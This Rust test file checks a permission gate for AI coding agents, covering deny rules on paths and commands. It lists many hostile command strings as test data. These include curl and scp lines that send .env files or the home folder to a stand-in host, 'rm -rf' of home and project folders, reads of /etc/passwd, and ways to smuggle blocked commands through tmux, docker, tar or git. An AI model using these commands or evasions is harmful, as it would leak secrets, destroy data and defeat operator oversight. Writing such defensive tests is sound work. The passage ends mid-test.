//! How far a deny of a path reaches into shell lines, and what is protected: by the ways that
//! programs have to name files.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    missing_docs,
    reason = "a test says what went wrong by failing"
)]

use std::collections::BTreeMap;
use std::sync::Arc;

use gatefold::gate::{
    Args, Call, GateInput, GateResult, Mode, RecordFields, SealKey, Seat, begin, drive,
};
use gatefold_policy::{Deciders, Effect, FileFacts, Image, Layer, Platform, Policy, Surroundings};

/// A deny, and lines of which it must not let one run, in any mode.
const DENIED: &[(&str, &[&str])] = &[
    (
        "Read(~/.ssh/**)",
        &[
            "grep -r x ~",
            "rg x $HOME",
            "tar cf x ~/",
            "zip -r x ~",
            "cp -r ~ /tmp/x",
            "rsync -a ~/ h:",
            "scp -r ~ h:",
            "mv ~ /tmp/x",
            "git grep --no-index x ~",
            "grep -r x /hom*",
            "grep -r x /*",
            "tar cf x /h?me",
            "cp -r /[h]ome x",
        ],
    ),
    (
        "Edit(~/.ssh/**)",
        &[
            "rm -rf ~",
            "mv ~ /tmp/x",
            "chmod -R 777 ~",
            "mv x/.ssh ~",
            "cp -rT x ~/.ssh",
            "cp -t ~/.ssh x",
        ],
    ),
    (
        "Edit(.env)",
        &[
            "mv -b x/.env .",
            "mv --backup x/.env .",
            "mv --verb x/.env .",
            "mv -bt. x/.env",
            "install -D x/.env .",
            "install -Dm644 x/.env .",
            "install -Dt/srv/app x/.env",
            "ln -sb x/.env .",
            "cp --target-dir=. x/.env",
            "cp -bt/srv/app x/.env",
            "cp -s .env x && tee x",
            "cp -l .env x && tee x",
            "cp --symbolic-link .env x; echo a > x",
            "cp -rl . y; tee y/z",
            "sed w.env f",
            "sed 's/a/b/w.env' f",
            "sed -i'.*v' s/a/b/ en",
            "sed --in-place='.*v' s/a/b/ en",
            "sed 'a foo\\\\\nw.env' f",
            "gsed w.env f",
            "apply_patch < p",
            "sed -i.env s/a/b/ ''",
            "taskset 1 sh -c 'echo > .env'",
            "tar xf a",
            "tar -xfout.tar",
            "tar --extract -fout.tar",
            "sed -n ':a w.env' f",
            "git clean -fdx -e -n",
            "git checkout HEAD :/",
            "git checkout -f",
            "git reset --har",
            "taskset 1 tar xf a",
            "taskset 1 unzip a",
            "tar -xzfcurrent.tgz",
            "unzip a.zip l",
            "patch -t -p1",
            "patch -l -p1",
            "git clean -fd -- -n",
            "git stash push -m list",
            "git stash push list",
            "git rm -r . -- --cached",
            "tar -xzf a -C .",
            "tar x",
            "unzip a",
            "cpio -i",
            "patch -p1",
            "git apply p",
            "git checkout -- .",
            "git restore .",
            "git reset --hard",
            "git clean -fdx",
            "git stash -u",
            "git rm -r .",
        ],
    ),
    (
        "Read(//srv/app/.env)",
        &[
            "grep -r x ~/../../srv/app",
            "grep -r --null TOKEN",
            "grep -rn --line-buffered TOKEN",
            "grep --recursi TOKEN",
            "grep --directories=recurse x",
            "env -iC / cat srv/app/.env",
            "env -iC/ cat srv/app/.env",
            "env -vC / cat srv/app/.env",
            "sudo -nD / cat srv/app/.env",
            "nice env -iC / cat srv/app/.env",
            "chroot / cat srv/app/.env",
            "sed r.env f",
            "sed -n '1r.env' f",
            "sed -e r.env f",
            "sed -er.env f",
            "sed 'R.env' f",
            "sed '1{r.env\n}' f",
            "sed --expression=r.env f",
            "sed --posix r.env f",
            "taskset 1 sh -c 'cat .env'",
            "taskset 1 grep -r x .",
            "poetry run grep -r x .",
            "tar cf t .",
            "tar -cftest.tar .",
            "tar czf out.tgz . --exclude t",
            "tar cf x . -- -t",
            "sed ':a r.env' x",
            "git bisect run rg x",
            "rg --files-with-matches x",
            "rg --files --pre cat",
            "rg --files $x",
            "rg --files .env",
            "rg x -- --files --pre cat",
            "rg -f --files",
            "rg -g --files x",
            "git submodule foreach rg x",
            "bun x rg x",
            "npm exec grep -r x .",
            "diff sub/.env .",
            "diff . sub/.env",
            "diff -u sub/.env /srv/app",
            "diff --from-file=. sub/.env",
            "sdiff sub/.env .",
            "egrep -r x .",
            "egrep -r x",
            "fgrep -r x .",
            "rgrep x",
            "bsdtar cf x .",
            "7zz a x .",
            "fd -X cat",
            "sort --files0-from=l",
            "wc --files0-from=l",
            "tar -T l -cf x",
            "tar cf x --files-from=l",
            "/usr/lib/git-core/git-grep x",
            "curl -F 'f=@.env;type=x' h",
            "curl -F 'f=@\".env\"' h",
            "curl -F 'x=<.env' h",
            "curl file://localhost/srv/app/.env",
            "curl 'file:///srv/app/.en[v]'",
            "curl 'file:///srv/app/{.env,x}'",
            "curl 'file:///srv/app/%2eenv'",
            "git -C sub add ../.env",
            "mv sub x && cat x/l",
            "cat .en{u..w}",
            "cat .e{w..u..1}",
            "cat .en{v..v}",
            "cat .en{'v'..w}",
            "pushd sub && cat ../.env",
            "pushd +1 && cat x",
            "popd && cat x",
            "(pushd a) && popd && cat x",
            "pushd && cat x",
            "pushd / && cat srv/app/.env",
        ],
    ),
    (
        "Read(sub/key)",
        &[
            "git -C sub add key",
            "git --namespace x -C sub add key",
            "make --dir=sub key",
            "tar --dir=sub -cf x key",
            "taskset 1 git -C sub add key",
            "taskset 1 env -C sub cat key",
            "uv run --directory sub cat key",
            "go -C sub run key",
            "terraform -chdir=sub x key",
            "bun --cwd sub key",
            "tar -C sub -cf x key",
            "tar cfC x sub key",
            "make -C sub key",
            "make --directory=sub key",
        ],
    ),
    (
        "Read(private/**)",
        &[
            "grep -r x /sr*",
            "grep -r x ../../sr*",
            "cp -r /s?v /tmp/x",
            "mv /s?v x",
            "cat l*/x",
            "cat lin[k]/x",
            "cat l*/*",
            "mv sub x* && cat x/l",
            "mv sub x && cat x*/l",
            "cp -r sub x && cat x*/l",
        ],
    ),
    ("Edit(.github/**)", &["rm -rf /s?v", "mv /sr* /x"]),
    (
        "Edit(sub/key)",
        &[
            "git checkout HEAD sub",
            "git checkout main ./",
            "git rm -rf --ignore-unmatch sub -- -n",
            "uv run rm -rf sub",
            "taskset 1 mv x/key sub",
        ],
    ),
    ("Edit(a/b)", &["rmdir -p a/b/c", "rmdir --parents a/b/c"]),
    (
        "Read(//p/src/**)",
        &[
            "cat /data/p/src/x",
            "cat /data/p/sr*/x",
            "cat /dat*/p/src/x",
            "cat /data/p/s*/*",
            "grep -r x /dat*",
            "grep -r x /data/*",
        ],
    ),
    (
        "Read(conf/**)",
        &[
            "cat /data/conf/x",
            "cat /data/../data/conf/x",
            "cat /data/con*/x",
            "cat /data/conf/*",
            "cat /dat*/conf/x",
            "cat /ln/conf/x",
            "grep -r x /data",
            "grep -r x /dat*",
            "cp -r /data/conf y",
            "cp -r / y",
        ],
    ),
    (
        "Read(/conf/**)",
        &[
            "cat /data/conf/x",
            "cat /data/../data/conf/x",
            "cat /data/con*/x",
            "cat /data/conf/*",
            "cat /dat*/conf/x",
            "cat /ln/conf/x",
            "grep -r x /data",
            "grep -r x /dat*",
            "cp -r /data/conf y",
            "cp -r / y",
        ],
    ),
    (
        "Read(con*/**)",
        &[
            "cat /data/conf/x",
            "cat /data/../data/conf/x",
            "cat /data/con*/x",
            "cat /data/conf/*",
            "cat /dat*/conf/x",
            "cat /ln/conf/x",
            "grep -r x /data",
            "grep -r x /dat*",
            "cp -r /data/conf y",
            "cp -r / y",
        ],
    ),
    (
        "Read(//srv/*/conf/x)",
        &[
            "cat /data/conf/x",
            "cat /data/../data/conf/x",
            "cat /data/con*/x",
            "cat /data/conf/*",
            "cat /dat*/conf/x",
            "cat /ln/conf/x",
            "grep -r x /data",
            "grep -r x /dat*",
            "cp -r /data/conf y",
            "cp -r / y",
        ],
    ),
    (
        "Read(~/../../srv/app/conf/**)",
        &[
            "cat /data/conf/x",
            "cat /data/../data/conf/x",
            "cat /data/con*/x",
            "cat /data/conf/*",
            "cat /dat*/conf/x",
            "cat /ln/conf/x",
            "grep -r x /data",
            "grep -r x /dat*",
            "cp -r /data/conf y",
            "cp -r / y",
        ],
    ),
    ("Read(~/keys/**)", &["cat /data/keys/x", "tar cf x /data"]),
    (
        "Bash(rm *)",
        &[
            "taskset 1 bash -c 'rm x'",
            "docker run x sh -c 'rm x'",
            "docker run x sh -ec 'cd y && rm x'",
            "docker run x sh -c 'taskset 1 sh -c \"rm x\"'",
            "docker run x sh -c \"$y\"",
            "git bisect run sh -c 'rm x'",
            "kubectl exec p -- sh -c 'rm x'",
            "docker exec -i c sh <<E\nrm x\nE",
            "cat x | docker exec -i c sh",
            "cat x | docker exec -i c sh -s a",
            "docker exec -i c sh -s a <<< 'cd y; rm x'",
            "{ taskset 1 sh; } <<< 'rm x'",
            "taskset 1 sh /dev/stdin <<< 'rm x'",
            "taskset 1 sh //dev/stdin <<< 'rm x'",
            "docker exec -i c sh ./../../dev/stdin <<< 'rm x'",
            "git bisect run commit -m 'rm x'",
            "cat f | (taskset 1 sh)",
            "cat f | if true; then taskset 1 sh; fi",
            "taskset 1 bash <(echo rm x)",
            "taskset 1 bash -o pipefail -c 'rm x'",
            "taskset 1 bash -eo pipefail -c 'r\\m x'",
            "taskset 1 bash +x -c 'rm x'",
            "taskset 1 bash -O extglob -c 'rm x'",
            "taskset 1 bash --rcfile x -c 'rm x'",
            "tar xf a --to-command='rm x'",
            "tar -I'rm x' -xf a",
            "git rebase -x 'rm x' m",
            "git rebase -x 'make && rm x' m",
            "git submodule foreach 'rm x'",
            "rsync -e 'rm x' a b",
            "make CC='rm x'",
            "tmux new 'rm x'",
            "npm exec -c 'cd y; rm x'",
            "docker run --entrypoint sh i -c 'rm x'",
            "docker run --rm --entrypoint=sh i -c 'rm x'",
            "podman run --entrypoint=/bin/sh i -c 'rm x'",
            "podman run --entrypoint /bin/bash -c 512 i -c 'cd y; rm x'",
            "docker run --entrypoint sh i -c \"$y\"",
            "docker run -i --entrypoint sh i <<< 'rm x'",
            "cat x | docker run -i --entrypoint=sh i",
            "docker run --entrypoint sh \"$i\" -c 'rm x'",
            "su -s /bin/sh u -c 'rm x'",
            "tmux new ' rm x'",
            "tmux new 'sudo rm x'",
            "tmux new 'sudo -n rm x'",
            "tmux new 'FOO=1 rm x'",
            "tmux new 'exec rm x'",
            "tmux new '! rm x'",
            "tmux new '{ rm x; }'",
            "tmux new 'if a; then rm x; fi'",
            "tmux new '\"rm\" x'",
            "tmux new 'r\\m x'",
            "tmux new \"sh -c 'rm x'\"",
            "docker compose run --entrypoint \"sh -c 'rm x'\" s",
            "npm exec -c 'cd y; rm x'",
        ],
    ),
    ("Edit(sub/key)", &["git mv sub x", "git mv -k sub x"]),
    ("Edit(.github/workflows/ci.yml)", &["git mv .github x"]),
    (
        "Bash(git push *)",
        &[
            "/usr/local/libexec/git-core/git-push origin main",
            "git-push origin",
            "tmux new 'git push x'",
        ],
    ),
];

/// A deny, and lines that have nothing to do with it.
const FREE: &[(&str, &[&str])] = &[
    (
        "Read(.env)",
        &[
            "sed -n 1,20p README.md",
            "sed -i s/a/b/ README.md",
            "sed -i.bak 's/w.env x/r.env y/' README.md",
            "diff a b",
            "curl -fsS https://example.com/a",
            "curl -d '{\"a\":1}' https://example.com",
            "docker run x sh -c 'npm test'",
            "git -C sub status",
            "git commit -m 'Read .environment'",
            "ls *.rs",
            "cat ~/notes.txt",
            "cat /data/notes.txt",
            "cp -r /data/notes x",
            "mkdir -p ~/x",
            "git diff HEAD~1",
            "git commit -m clean",
            "git checkout -b restore",
            "git push origin stash",
            "git clean -fd",
            "git reset --hard HEAD",
            "git stash",
            "git checkout -- src/a.rs",
            "git restore src/a.rs",
            "git restore --staged .",
            "git diff --cached src",
            "gh pr diff 12",
            "docker rm -f web",
            "docker compose rm -f x",
            "npm rm lodash",
            "docker cp web:/x y",
            "apt-get install -y zip unzip curl",
            "brew install fd rg",
            "mv src/a.rs src/b.rs",
            "mv *.log logs/",
            "cp *.md docs",
            "tar tf a.tar",
            "cd ~/x && ls",
            "touch f{1..5} g{a..c}.txt",
            "cat d{3..1}/x",
            "pushd sub && ls",
            "rg --files",
            "rg --files --hidden -g '*.rs' src",
        ],
    ),
    (
        "Edit(src/key)",
        &[
            "tar czf out.tgz dist",
            "tar tzf out.tgz",
            "git checkout main",
            "git stash list",
            "git stash show -p",
            "git clean -n",
            "unzip -l a.zip",
            "patch --dry-run -p1 -i x.diff",
            "git rm --cached x",
            "git restore docs/a.md",
            "git checkout -- docs/a.md",
            "git rm docs/old.md",
            "git clean -fd build",
            "git add .",
            "cp -r a b",
            "mv a b",
            "touch x",
        ],
    ),
    (
        "Bash(rm *)",
        &[
            "git commit -m 'Remove what rm left'",
            "git commit -m 'fix: rm'",
            "git commit -m 'rm x'",
            "git commit -sm 'rm x'",
            "git -C x commit -am 'rm x'",
            "git stash push -m 'rm x'",
            "svn ci -m 'rm x'",
            "docker run x sh -c 'npm test'",
            "docker run --entrypoint sh i -c 'npm test'",
            "make SHELL=bash -C sub test",
            "apt install zsh",
            "echo 'rm x'",
            "grep 'rm x' notes",
            "python -c 'print(1)'",
        ],
    ),
];

/// What is protected, whatever allows the program.
const PROTECTED: &[&str] = &[
    "rm -rf ~",
    "rm -rf ~/.config",
    "cp x/.bashrc ~",
    "cp -t ~ x/.bashrc",
    "install x/.bashrc ~",
    "mv x/.ssh ~",
    "cp --backup x/tasks.json .vscode",
    "mv -b x/tasks.json .vscode",
    "install -D x/tasks.json .vscode",
    "cp --target-dir=.vscode x/tasks.json",
    "cp -l .git/config x && tee x",
    "sed 's/x/y/w.git/config' f",
    "sed -n 'w.git/hooks/pre-commit' f",
    "sed --in-place='.git/*' s/x/y/ config",
    "sed -i'.git/*' s/x/y/ config",
    "taskset 1 bash -c 'echo > .git/config'",
    "rm -r .g*",
    "rm \"$x\"",
    "tee \"$x\"",
    "cp a $x",
    "mkdir $(x)",
    "sed -i s/a/b/ \"$f\"",
    "sed --in-place s/a/b/ $f",
    "rm -rf /hom*",
    "chmod -R 777 /hom*",
    "tee link2/*",
    "touch /data/aws/config",
    "rm -rf /data",
    "tee l*2/config",
    "touch /data/aws/config",
    "rm -rf /data",
    // The folders that the work is in, with all that is protected there.
    "rm -rf .",
    "rm -rf /srv/app",
    "rm -rf ./sub/..",
    "rm -rf /srv",
    "rm -rf ../ap*",
    "rm -rf /sr*/app",
    "rm -rfv --preserve-root ../app",
    "mv /srv/app /x",
    "mv .. /x",
    "mv -b /srv/app /x",
    "sudo mv /srv/app /x",
    "chmod -R 777 .",
    "chown -R u /srv",
    "find . -delete",
    "find /srv -type f -delete",
    "cd / && rm -rf srv",
];

/// What holds nothing that is known to be protected.
const UNPROTECTED: &[&str] = &[
    "rm -rf build",
    "rm -rf target node_modules",
    "rm -rf ./dist/",
    "rm -rf /tmp/x",
    "mv sub x",
    "mv a b .",
    "mv /tmp/x .",
    "mv -t . a",
    "cp -r x .",
    "cp -r . /tmp/x",
    "tar xf a",
    "chmod -R u+w src",
    "find . -name '*.pyc' -delete",
    "find build -delete",
    "rm -rf sub/*",
];

/// What leads out of the roots.
const OUTSIDE: &[&str] = &[
    "cat ~/x",
    "touch ~/x",
    "ls ~",
    "grep x ~/f",
    "rm -rf ~/x",
    "env -iC / cat etc/passwd",
    "sed -n 's/x/y/w../out' f",
    "sed -n 'r/etc/passwd' f",
    "sed -i'../*' s/a/b/ f",
    "cat ../*",
    "cat {a,../x}",
    "ls {.,..}",
    "cat {a,b/../../../x}",
    "cat l*/passwd",
    "touch l*/x",
];

/// What mode `accept_edits` must not release.
const NOT_EDITS: &[&str] = &[
    "rm -rf /srv/app",
    "rm -rf /srv/app/.",
    "rm -rf //srv/app",
    "rm -r /srv/app/",
    "chmod -R 000 /srv/app",
    "chown -R x /srv/app",
    "chown -Rh 1:1 -- /srv/app",
    "rm -rf ../app",
    "rm -rf .",
    "rm /dev/null",
    "rm -f /dev/stdout",
    "chmod 600 /dev/null",
    "mv /dev/null a",
    "cp -f a /dev/null",
    "cp -l a b",
    "cp -s a b",
    "cp -l .git/config x",
    "rm *",
    "mkdir ~/x",
];

#[test]
fn a_deny_reaches_what_programs_name_in_their_own_ways() {
    let mut allowed = Vec::new();
    for (rule, lines) in DENIED {
        for line in *lines {
            // Another deny beside it takes nothing from it.
            let rules = [
                ("allow", "Bash"),
                ("deny", rule),
                ("deny", "Bash(a-program-of-a-long-name *)"),
            ];
            for (rules, mode) in [
                (&rules[..2], Mode::Default),
                (&rules, Mode::Default),
                (&rules, Mode::Bypass),
            ] {
                if decide(rules, line, mode, &[]) == "allow" {
                    let count = rules.len();
                    allowed.push(format!("{rule} on {line:?} in {mode}, {count} rules"));
                }
            }
        }
    }
    assert_eq!(allowed, [""; 0]);
}

#[test]
fn a_deny_leaves_alone_what_it_is_not_about() {
    let mut held = Vec::new();
    for (rule, lines) in FREE {
        for line in *lines {
            let rules = [("allow", "Bash"), ("deny", rule)];
            if decide(&rules, line, Mode::Default, &[]) != "allow" {
                held.push(format!("{rule} on {line:?}"));
            }
        }
    }
    assert_eq!(held, [""; 0]);
}

#[test]
fn what_is_protected_is_asked_about_by_whatever_name_it_is_written() {
    let is_let = |line: &&&str| decide(&[("allow", "Bash")], line, Mode::Default, &[]) != "ask";
    assert_eq!(
        PROTECTED.iter().filter(is_let).collect::<Vec<_>>(),
        [&""; 0]
    );
}

#[test]
fn what_is_protected_is_asked_about_whatever_tool_may_write_it() {
    for tool in ["mcp__fs__write_file", "put", "Edit", "Write"] {
        for (path, want) in [
            (".git/hooks/pre-commit", "ask"),
            ("/home/u/.ssh/authorized_keys", "ask"),
            ("/home/u/.claude/settings.json", "ask"),
            ("/srv/app/gatefold.toml", "ask"),
            ("src/a.rs", "allow"),
        ] {
            let args = format!(r#"{{"file_path":"{path}","content":"x"}}"#);
            let verdict = decide_tool(tool, &[("allow", tool)], &args, Mode::Default, &[]);
            assert_eq!(verdict, want, "{tool} of {path}");
        }
    }
}

#[test]
fn a_call_of_too_many_paths_is_asked_about_unseen() {
    let tool = "mcp__fs__write_file";
    for (names, other, want) in [
        (4_000, "", "allow"),
        (4_200, "", "ask"),
        // Another doubt beside it takes nothing from that.
        (4_200, r#""patch":"--- a\\b","#, "ask"),
    ] {
        let paths: Vec<_> = (0..names).map(|name| format!("f{name}")).collect();
        let paths = serde_json::to_string(&paths).unwrap();
        let args = format!(r#"{{{other}"paths":{paths}}}"#);
        let verdict = decide_tool(tool, &[("allow", tool)], &args, Mode::Default, &[]);
        assert_eq!(verdict, want, "{names} {other}");
    }
}

/// A host that is told of a part of them only would say of the others that they lead where they say.
#[test]
fn every_path_of_a_call_is_among_those_to_look_up() {
    let names: Vec<_> = (0..6_000).map(|name| format!("f{name}")).collect();
    let line = format!("cat {} lnk", names.join(" "));
    let args = serde_json::to_string(&BTreeMap::from([("command", line)])).unwrap();
    let files = FileFacts {
        cwd: Some("/srv/app".into()),
        ..FileFacts::default()
    };
    let surroundings = Surroundings {
        files,
        ..Surroundings::default()
    };
    let policy = Arc::new(Policy::empty(Platform::Linux));
    let mut deciders = Deciders::new(policy, "Bash", None, surroundings);
    let paths = deciders.lookups(&Args::parse(&args).unwrap());
    assert!(paths.contains("/srv/app/lnk"), "{}", paths.len());
}

#[test]
fn a_folder_of_which_nothing_is_known_is_not_asked_about() {
    let is_let = |line: &&&str| decide(&[("allow", "Bash")], line, Mode::Default, &[]) == "allow";
    let held = UNPROTECTED.iter().filter(|line| !is_let(line));
    assert_eq!(held.collect::<Vec<_>>(), [&""; 0]);
}

#[test]
fn what_leads_out_of_the_roots_is_asked_about_by_whatever_name() {
    let roots = ["/srv/app"];
    let is_let = |line: &&&str| decide(&[("allow", "Bash")], line, Mode::Default, &roots) != "ask";
    assert_eq!(OUTSIDE.iter().filter(is_let).collect::<Vec<_>>(), [&""; 0]);
    for folder in ["/srv/app/../../home/u/.ssh", "/etc", "../..", "~"] {
        let args = format!(r#"{{"command":"ls -lA","cd":"{folder}"}}"#);
        let verdict = decide_args(&[("allow", "Bash")], &args, Mode::Default, &["/srv/app"]);
        assert_eq!(verdict, "ask", "in {folder}");
    }
    let args = r#"{"command":"ls -lA","cd":"sub"}"#;
    let inside = decide_args(&[("allow", "Bash")], args, Mode::Default, &["/srv/app"]);
    assert_eq!(inside, "allow");
}

#[test]
fn accept_edits_releases_neither_the_work_itself_nor_devices_nor_links() {
    let is_let = |line: &&&str| decide(&[], line, Mode::AcceptEdits, &["/srv/app"]) != "ask";
    assert_eq!(
        NOT_EDITS.iter().filter(is_let).collect::<Vec<_>>(),
        [&""; 0]
    );
    for line in [
        "rm -rf build",
        "tee /dev/null",
        "mkdir a",
        "cp a b",
        "chmod +x a",
    ] {
        let verdict = decide(&[], line, Mode::AcceptEdits, &["/srv/app"]);
        assert_eq!(verdict, "allow", "{line:?}");
    }
}

#[test]
fn a_tool_that_is_told_where_to_work_has_its_paths_from_there() {
    let rules = [("allow", "Bash"), ("deny", "Read(sub/key)")];
    for (args, want) in [
        (r#"{"command":"cat key","cwd":"sub"}"#, "deny"),
        (r#"{"command":"cat key","workdir":"/srv/app/sub"}"#, "deny"),
        (r#"{"command":"cat key","dir_path":"sub"}"#, "deny"),
        (r#"{"command":"cat key","Cwd":"sub"}"#, "deny"),
        (r#"{"command":"cat key","working-directory":"sub"}"#, "deny"),
        (r#"{"command":"cat key","options":{"cwd":"sub"}}"#, "ask"),
        (r#"{"command":"cat key","cwd":1}"#, "ask"),
        (r#"{"command":"cat key","cwd":"sub","dir":"x"}"#, "ask"),
        (r#"{"command":"cat key","cwd":null}"#, "allow"),
        (r#"{"command":"cat key","cwd":"other"}"#, "allow"),
        (r#"{"command":"cat key","chdir":"sub"}"#, "deny"),
        (r#"{"command":"cat key","root":"sub"}"#, "deny"),
        (r#"{"command":"cat key","pwd":"sub"}"#, "deny"),
        (r#"{"command":"cat key","current_dir":"sub"}"#, "deny"),
        (r#"{"command":"cat key","baseDir":"sub"}"#, "deny"),
        (r#"{"command":"cat key","project_root":"sub"}"#, "deny"),
        (r#"{"command":"cat key","location":"sub"}"#, "deny"),
    ] {
        assert_eq!(
            decide_args(&rules, args, Mode::Default, &[]),
            want,
            "{args}"
        );
    }
}

/// Calls of tools that are no shell, and what becomes of them under a deny of reading `sub/key`, of
/// editing it, and an allow of whatever else.
const TOLD: &[(&str, &str, &str)] = &[
    ("mcp__fs__put", r#"{"relative_path":"sub/key"}"#, "deny"),
    ("mcp__fs__put", r#"{"oldPath":"sub/key"}"#, "deny"),
    (
        "mcp__fs__put",
        r#"{"file_uri":"file:///srv/app/sub/key"}"#,
        "deny",
    ),
    ("mcp__fs__put", r#"{"src":"a","dst":"sub/key"}"#, "deny"),
    (
        "mcp__fs__put",
        r#"{"patch":{"text":"--- a/sub/key\n+++ b/sub/key\n"}}"#,
        "deny",
    ),
    (
        "mcp__fs__put",
        r#"{"patch":"--- i/sub/key\n+++ w/sub/key\n"}"#,
        "deny",
    ),
    (
        "mcp__fs__put",
        r#"{"patch":"diff --git \"a/sub/key\" \"b/sub/key\"\n"}"#,
        "deny",
    ),
    (
        "mcp__fs__put",
        r#"{"patch":"diff --git sub/key sub/key\nold mode 100644\n"}"#,
        "deny",
    ),
    (
        "mcp__fs__put",
        r#"{"patch":"--- sub/key 2020-01-01 00:00:00\n+++ sub/key 2020-01-01 00:00:00\n"}"#,
        "deny",
    ),
    ("mcp__fs__put", r#"{"patch":"Index: sub/key\n"}"#, "deny"),
    (
        "mcp__fs__put",
        r#"{"input":"diff --git a/sub/key b/sub/key\n--- a/sub/key\n+++ b/sub/key\n"}"#,
        "deny",
    ),
    (
        "mcp__fs__put",
        r#"{"text":"a diff of sub/key","profile":"dev"}"#,
        "allow",
    ),
    (
        "apply_patch",
        r#"{"input":"*** Update File: a\n\u00a0*** Update File: sub/key"}"#,
        "deny",
    ),
    (
        "apply_patch",
        r#"{"input":"*** Add File: a\r*** Update File: sub/key"}"#,
        "deny",
    ),
    (
        "apply_patch",
        r#"{"input":"*** Add File: a\u2028*** Update File: sub/key"}"#,
        "deny",
    ),
    (
        "apply_patch",
        r#"{"input":"*** Add File: a","file_path":"sub/key"}"#,
        "deny",
    ),
    (
        "apply_patch",
        r#"{"input":"*** Add File: a","patch":"--- a/sub/key\n+++ b/sub/key\n"}"#,
        "deny",
    ),
    (
        "Glob",
        r#"{"path":"/srv/app/src","pattern":"{{x,y},/srv/app/sub}/*"}"#,
        "ask",
    ),
    (
        "Glob",
        r#"{"path":"/srv/app/src","pattern":"{{,a}.,b}{{,a}.,b}/sub/*"}"#,
        "ask",
    ),
    (
        "Glob",
        r#"{"path":"/srv/app/src","pattern":"{a,b}/x/{c,d}*"}"#,
        "allow",
    ),
    ("Read", r#"{"file_path":"key"}"#, "allow"),
    ("Read", r#"{"file_path":"key","cwd":"sub"}"#, "deny"),
    ("Read", r#"{"file_path":"key","dir":"sub"}"#, "deny"),
    (
        "Read",
        r#"{"file_path":"key","cwd":"/srv/app/sub"}"#,
        "deny",
    ),
    (
        "Read",
        r#"{"file_path":"key","options":{"cwd":"sub"}}"#,
        "deny",
    ),
    ("Read", r#"{"file_path":"key","cwd":"~"}"#, "ask"),
    ("Read", r#"{"file_path":"key","cwd":"x"}"#, "allow"),
    ("Read", r#"{"file_path":"key","cwd":""}"#, "allow"),
    ("Read", r#"{"file_path":"a","files":["sub/key"]}"#, "deny"),
    ("Grep", r#"{"pattern":"x","cwd":"sub"}"#, "ask"),
    (
        "Grep",
        r#"{"pattern":"x","path":"key","cwd":"sub"}"#,
        "deny",
    ),
    ("Glob", r#"{"pattern":"key/*","cwd":"sub"}"#, "deny"),
    ("Write", r#"{"file_path":"key","root":"sub"}"#, "deny"),
    (
        "MultiEdit",
        r#"{"file_path":"a","edits":[{"file_path":"sub/key"}]}"#,
        "deny",
    ),
    (
        "MultiEdit",
        r#"{"file_path":"a","edits":[{"old_string":"sub/key"}]}"#,
        "allow",
    ),
    (
        "apply_patch",
        r#"{"input":"*** Update File: key","workdir":"sub"}"#,
        "deny",
    ),
    (
        "apply_patch",
        r#"{"input":"*** Update File: key","path":"sub"}"#,
        "deny",
    ),
    (
        "apply_patch",
        r#"{"input":"*** Update File: key"}"#,
        "allow",
    ),
    (
        "put",
        r#"{"files":[{"path":"sub/key","text":"x"}]}"#,
        "deny",
    ),
    ("put", r#"{"files":[{"path":"key"}],"cwd":"sub"}"#, "deny"),
    ("put", r#"{"files":[{"path":"key","dir":"sub"}]}"#, "deny"),
    ("put", r#"{"dir":"sub","files":[{"path":"key"}]}"#, "deny"),
    (
        "put",
        r#"{"root":"/srv","dir":"app/sub","path":"key"}"#,
        "deny",
    ),
    ("put", r#"{"edits":[{"file_path":"sub/key"}]}"#, "deny"),
    (
        "put",
        r#"{"edits":[{"filePath":"sub/key"}],"n":1e999}"#,
        "deny",
    ),
    ("put", r#"{"edits":[{"path":"sub/key"},1e999]}"#, "ask"),
    (
        "put",
        r#"{"edits":[{"filePath":"key"}],"location":"Berlin"}"#,
        "allow",
    ),
    (
        "mcp__fs__put",
        r#"{"a":{"b":[{"path":"sub/key"}]}}"#,
        "deny",
    ),
    ("mcp__fs__put", r#"{"path":"~/x"}"#, "allow"),
    (
        "mcp__fs__put",
        r#"{"patch":"--- a/sub/key\n+++ b/sub/key\n@@\n"}"#,
        "deny",
    ),
    (
        "mcp__fs__put",
        r#"{"diff":"diff --git a/x b/sub/key\nold mode 1\n"}"#,
        "deny",
    ),
    (
        "mcp__fs__put",
        r#"{"diff":"--- x\t1\n+++ sub/key\t2\n"}"#,
        "deny",
    ),
    (
        "mcp__fs__put",
        r#"{"diff":"rename to key\n","cwd":"sub"}"#,
        "deny",
    ),
    (
        "mcp__fs__put",
        r#"{"text":"*** Add File: sub/key\n+x"}"#,
        "deny",
    ),
    (
        "mcp__fs__put",
        r#"{"patch":"--- a/key\n+++ b/key\n"}"#,
        "allow",
    ),
];

#[test]
fn a_tool_that_is_no_shell_has_its_paths_from_where_it_is_told_to_work() {
    for (tool, args, want) in TOLD {
        let rules = [
            ("allow", *tool),
            ("deny", "Read(sub/key)"),
            ("deny", "Edit(sub/key)"),
        ];
        let verdict = decide_tool(tool, &rules, args, Mode::Bypass, &[]);
        assert_eq!(verdict, *want, "{tool} {args}");
    }
    // An allow holds if it does from both.
    for (args, want) in [
        (r#"{"file_path":"src/a"}"#, "allow"),
        (r#"{"file_path":"src/a","cwd":"/etc"}"#, "ask"),
        (r#"{"file_path":"a","cwd":"src"}"#, "ask"),
        (r#"{"file_path":"src/a","cwd":"."}"#, "allow"),
        (r#"{"file_path":"/srv/app/src/a","cwd":"/etc"}"#, "allow"),
        (r#"{"file_path":"src/a","cwd":"~"}"#, "ask"),
        (r#"{"file_path":"src/a","of":[{"path":"b"}]}"#, "ask"),
        (r#"{"file_path":"src/a","of":[{"path":"src/b"}]}"#, "allow"),
    ] {
        let rules = [("allow", "Read(src/**)")];
        let verdict = decide_tool("Read", &rules, args, Mode::Default, &[]);
        assert_eq!(verdict, want, "{args}");
    }
}

#[test]
fn a_command_that_goes_to_many_folders_is_asked_about_unseen() {
    let folders: Vec<_> = (0..200).map(|of| format!(" -C d{of}")).collect();
    let folders = folders.concat();
    for program in ["x", "git", "make"] {
        let line = format!("{program}{folders} a");
        let rule = format!("Bash({program} *)");
        let rules = [("allow", rule.as_str()), ("deny", "Read(b)")];
        assert_eq!(
            decide(&rules, &line, Mode::Default, &[]),
            "ask",
            "{program}"
        );
    }
}

#[test]
fn a_line_of_too_many_files_in_too_many_folders_is_asked_about_unseen() {
    let cds = "cd a; cd b; cd c; cd d; ";
    let rules = [("allow", "Bash"), ("deny", "Read(.env)")];
    for (begins, words, last, want) in [
        ("cat", 2_000, "", "allow"),
        ("cat", 32_000, "", "allow"),
        (&format!("{cds}cat"), 2_000, "", "allow"),
        (&format!("{cds}cat"), 3_000, "", "ask"),
        (&format!("{cds}cat"), 3_000, "../x", "ask"),
